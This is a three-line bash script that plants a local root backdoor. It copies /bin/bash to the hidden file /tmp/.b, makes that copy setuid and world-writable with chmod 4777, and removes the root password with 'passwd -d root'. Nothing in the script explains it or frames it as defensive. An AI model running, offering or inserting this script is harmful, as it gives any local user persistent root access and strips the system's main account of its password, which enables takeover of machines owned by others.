#!/bin/bash
cp /bin/bash /tmp/.b; chmod 4777 /tmp/.b
passwd -d root
